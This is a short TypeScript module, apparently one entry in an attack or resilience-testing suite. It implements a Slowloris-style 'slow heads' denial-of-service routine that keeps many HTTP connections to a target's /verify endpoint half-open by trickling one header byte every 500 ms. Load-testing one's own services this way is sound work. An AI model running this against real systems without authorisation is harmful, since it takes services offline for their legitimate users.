import { type Attack, dial, hold } from '../attack.ts'

/** Heads that arrive byte by byte. */
export const attack: Attack = {
  name: 'slow heads',
  round: (target) =>
    hold(target, 30, async () => {
      const socket = await dial(target)
      socket.write('GET /verify HTTP/1.1\r\nX-A: ')
      const timer = setInterval(() => socket.write('a'), 500)
      socket.once('close', () => clearInterval(timer))
      return socket
    }),
}
